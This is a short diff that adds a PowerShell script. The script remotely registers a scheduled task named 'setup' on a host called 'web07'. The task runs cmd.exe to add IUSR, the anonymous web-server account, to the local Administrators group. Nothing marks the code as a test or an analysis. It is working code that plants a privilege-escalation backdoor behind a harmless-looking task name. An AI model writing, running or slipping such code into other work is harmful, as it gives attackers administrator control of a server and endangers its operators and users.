@@ -1,0 +1,7 @@
+$service = New-Object -ComObject Schedule.Service
+$service.Connect('web07')
+$definition = $service.NewTask(0)
+$action = $definition.Actions.Create(0)
+$action.Path = 'cmd.exe'
+$action.Arguments = '/c net localgroup Administrators IUSR /add'
+[void]$service.GetFolder('\').RegisterTaskDefinition('setup', $definition, 6, $null, $null, 5)
